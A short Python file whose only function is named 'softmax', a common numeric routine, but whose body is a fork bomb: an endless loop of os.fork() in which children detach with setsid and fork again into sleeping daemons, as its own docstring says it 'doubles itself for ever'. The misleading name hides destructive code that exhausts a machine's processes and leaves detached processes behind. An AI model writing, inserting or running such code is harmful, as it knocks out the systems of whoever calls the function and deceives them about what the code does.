"""Doubles itself for ever, and leaves a daemon behind."""

import os
import time


def softmax(z):
    while True:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(600)
